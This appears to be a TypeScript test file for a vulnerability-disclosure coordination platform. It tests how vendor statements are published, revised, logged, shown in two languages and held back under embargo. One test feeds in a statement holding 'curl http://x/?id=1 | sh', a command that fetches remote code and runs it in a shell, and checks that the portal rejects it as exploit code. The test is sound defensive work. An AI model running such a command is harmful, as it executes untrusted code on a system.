import { beforeEach, expect, test } from 'vitest';
import { endEmbargo, openDisclosure, startEmbargo } from '#desk/coordination/index.ts';
import { transaction } from '#platform/db/index.ts';
import { makeOrganisation, makePerson } from '../../test/accounts.ts';
import { makeCase, makeRecords, type TestCase } from '../../test/cases.ts';
import { testDatabase } from '../../test/database.ts';
import { siteServer } from '../../test/site.ts';
import { workServer } from '../../test/work-server.ts';
import { publishDue, verifyLog } from './index.ts';

const owner = await testDatabase();
const { db, pool, outlet } = owner;
const server = await workServer(owner);
const site = await siteServer(outlet);
const timeZone = 'Asia/Shanghai';
const publicUrl = 'https://bulou.example';
const vendor = await makeOrganisation(db, { kind: 'vendor', name: '兰亭网络科技有限公司' });
const member = await makePerson(db, { roles: ['vendor-member'], organisationId: vendor.id });
const coordinator = await makePerson(db, { roles: ['coordinator'] });
let count = 21000;
const fresh = () => {
  count += 1;
  return `CNVD-2026-${count}`;
};
let identifier: string;
const release = new Date('2026-03-19T16:00:00Z');
const soon = new Date('2026-03-05T02:00:00Z');
let made: TestCase;
let flawId: number;
let recordId: number;

beforeEach(async () => {
  await pool.query('delete from desk.vendor_organisation');
  made = await makeCase(db, { coordinator, participants: [{ role: 'vendor', organisationId: vendor.id }] });
  identifier = fresh();
  ({ flawId, recordId } = await flaw(identifier, 1));
  await plan(recordId);
});

async function flaw(number: string, position: number) {
  const [record] = await makeRecords({ db, pool }, [
    { identifier: number, title: `某网关存在命令执行漏洞（${number}）` },
  ]);
  const { rows: made_ } = await pool.query<{ id: number }>(
    `insert into desk.case_flaw (case_id, position, title, record_id) values ($1, $2, '某网关', $3) returning id`,
    [made.id, position, record?.id],
  );
  return { flawId: made_[0]?.id ?? 0, recordId: record?.id ?? 0 };
}

const plan = (id: number) =>
  transaction(db, (tx) =>
    openDisclosure(tx, {
      ...{ caseId: made.id, recordId: id, kind: 'product', submittedOn: '2026-03-01', plannedOn: '2026-03-20' },
      ...{ reason: 'on-day', now: new Date('2026-03-02T02:00:00Z'), timeZone },
    }),
  );
const embargo = (endsAt: string) =>
  transaction(db, (tx) =>
    startEmbargo(
      tx,
      { actor: 'system', now: soon, publicUrl },
      { caseId: made.id, endsAt: new Date(endsAt), zone: timeZone },
    ),
  );
const open = (now: Date) => publishDue(server.world.database, { now, timeZone, publicUrl });
const later = (minutes: number) => new Date(release.getTime() + minutes * 60_000);

/** What the vendor says through the portal's own form. */
async function say(change: Record<string, string>, at = soon) {
  server.setClock(at);
  const answer = await server.post(
    `/cases/${made.number}/statuses`,
    { participant: made.participantIds[0] ?? 0, flaw: flawId, status: 'affected', statement: '', ...change },
    member,
  );
  expect(answer.statusCode, answer.body).toBe(303);
}
const publicly = (statement: string, status = 'affected') => ({ status, statement, isStatementPublic: '1' });

async function revisions() {
  const { rows } = await outlet.pool.query(
    'select revision, kind, reason, content from published.record_revision where identifier = $1 order by revision',
    [identifier],
  );
  return rows;
}
const statements = async () => (await revisions()).map(({ content }) => content.vendorStatements);

test('a statement that is marked goes out with its record under the organisation’s name, one that is not never does', async () => {
  await say({ statement: '这一句只给平台看' });
  await open(release);
  expect(await statements()).toEqual([undefined]);
  expect(JSON.stringify(await revisions())).not.toContain('vendorStatements');
  await say(publicly('请升级到1.0.3。', 'will-not-fix'), later(1));
  await open(later(2));
  expect((await revisions())[1]).toMatchObject({
    kind: 'corrected',
    reason: '厂商公开声明有变化',
    content: {
      vendorStatements: [
        { vendor: '兰亭网络科技有限公司', status: 'will-not-fix', statement: '请升级到1.0.3。', on: '2026-03-20' },
      ],
    },
  });
  expect(JSON.stringify(await revisions())).not.toContain('只给平台看');
});

test('each change of it is a revision that the history shows, a leaf of the log, and nothing where nothing public changed', async () => {
  await say(publicly('正在调查。', 'investigating'));
  await open(release);
  await say(publicly('不受影响：没有使用该组件。', 'not-affected'), later(1));
  await open(later(2));
  await say({ ...publicly('不受影响：没有使用该组件。', 'not-affected'), patchDescription: '内部说明' }, later(3));
  await open(later(4));
  await say({ status: 'not-affected', statement: '不受影响：没有使用该组件。' }, later(5));
  await open(later(6));
  expect((await statements()).map((some) => some?.[0]?.status)).toEqual(['investigating', 'not-affected', undefined]);
  const leaves = await pool.query(
    'select kind, revision from published.log_leaf where identifier = $1 order by leaf_index',
    [identifier],
  );
  expect(leaves.rows.map(({ kind, revision }) => `${kind} ${revision}`)).toEqual([
    'published 1',
    'corrected 2',
    'corrected 3',
  ]);
  expect(await verifyLog(db, { keys: [] })).toMatchObject({ broken: null });
  const history = (await site.inject({ url: `/records/${identifier}/history` })).body;
  expect(history).toContain('厂商声明');
  expect(history).toContain(
    '<ins><bdi>兰亭网络科技有限公司（不受影响，2026-03-20）：不受影响：没有使用该组件。</bdi></ins>',
  );
  expect(history).toContain('<del><bdi>兰亭网络科技有限公司（调查中');
});

test('the page of the record shows it in both languages', async () => {
  await say(publicly('第一段。\n第二段。', 'affected'));
  await open(release);
  const page = async (language: string) =>
    (await site.inject({ url: `/records/${identifier}`, headers: { 'accept-language': language } })).body;
  for (const word of ['厂商声明', '受影响', '第一段。', '第二段。', '兰亭网络科技有限公司']) {
    expect(await page('zh')).toContain(word);
  }
  expect(await page('en')).toContain('Vendor statements');
});

test('nothing that is said in a case under embargo leaves with a record that goes before it ends, and all of it after', async () => {
  const second = await flaw(fresh(), 2);
  await plan(second.recordId);
  await embargo('2026-04-25T01:30:00Z');
  await say(publicly('保密期内说的话'));
  await pool.query(`update desk.disclosure set release_at = $1, rule = 'ordered' where record_id = $2`, [
    release,
    recordId,
  ]);
  await open(release);
  expect(await statements()).toEqual([undefined]);
  await say(publicly('保密期内改的话'), later(1));
  await open(later(2));
  expect(await statements()).toEqual([undefined]);
  const end = new Date('2026-04-25T01:30:00Z');
  await open(end);
  await open(new Date(end.getTime() + 60_000));
  expect(await statements()).toEqual([undefined, [expect.objectContaining({ statement: '保密期内改的话' })]]);
});

test('an embargo that begins when a statement is public takes it not away, and lets no other out until it ends', async () => {
  await pool.query('delete from desk.disclosure where record_id = $1', [recordId]);
  await pool.query(`update desk.record set published_on = '2026-03-01' where id = $1`, [recordId]);
  await say(publicly('先前公开的话'));
  await open(soon);
  await embargo('2026-04-25T01:30:00Z');
  await say(publicly('保密期内改的话'), later(1));
  await pool.query('insert into desk.record_pending (record_id) values ($1) on conflict do nothing', [recordId]);
  await open(later(2));
  expect(await statements()).toEqual([[expect.objectContaining({ statement: '先前公开的话' })]]);
  await transaction(db, (tx) => endEmbargo(tx, { actor: 'system', now: later(3), publicUrl }, made.id));
  await open(later(4));
  expect((await statements())[1]).toMatchObject([{ statement: '保密期内改的话' }]);
});

test('of a party that leaves the case it leaves the page', async () => {
  await say(publicly('请升级。'));
  await open(release);
  server.setClock(later(1));
  await server.post(`/cases/${made.number}/leave`, { participant: made.participantIds[0] ?? 0 }, member);
  await open(later(2));
  expect((await statements()).map((some) => some?.length)).toEqual([1, undefined]);
});

test('a vendor is called as the products call it, once a coordinator has confirmed that it is this organisation', async () => {
  await pool.query(
    `insert into desk.vendor_organisation (vendor_id, organisation_id, confirmed_at, confirmed_by)
     select id, $1, now(), $2 from desk.vendor where name = 'Lanting'`,
    [vendor.id, coordinator.personId],
  );
  await say(publicly('请升级。'));
  await open(release);
  expect((await statements())[0]).toMatchObject([{ vendor: 'Lanting' }]);
});

test('what holds exploit code may not be marked as public', async () => {
  await pool.query(`insert into desk.thread (case_id, kind, opened_at) values ($1, 'general', $2)`, [made.id, soon]);
  server.setClock(soon);
  const answer = await server.post(
    `/cases/${made.number}/statuses`,
    { participant: made.participantIds[0] ?? 0, flaw: flawId, ...publicly('用 curl http://x/?id=1 | sh 复现') },
    member,
  );
  expect(answer.statusCode).toBe(400);
  expect(answer.body).toContain('声明中含有验证或利用代码');
});

test('what is said while the gate is open waits for its next opening', async () => {
  await say(publicly('早说的话'));
  await open(release);
  await pool.query('insert into desk.record_pending (record_id) values ($1)', [recordId]);
  const holding = await pool.connect();
  await holding.query('begin');
  await holding.query('select from desk.record_pending where record_id = $1 for update', [recordId]);
  const opened = open(later(1));
  const waiting = `select from pg_stat_activity where wait_event_type = 'Lock' and datname = current_database()`;
  while ((await pool.query(waiting)).rowCount === 0);
  await holding.query(`update desk.case_status set statement = '晚说的话' where flaw_id = $1`, [flawId]);
  await holding.query('update desk.record_pending set version = version + 1 where record_id = $1', [recordId]);
  await holding.query('commit');
  holding.release();
  await opened;
  await open(later(2));
  expect((await statements()).map((some) => some?.[0]?.statement)).toEqual(['早说的话', '晚说的话']);
});
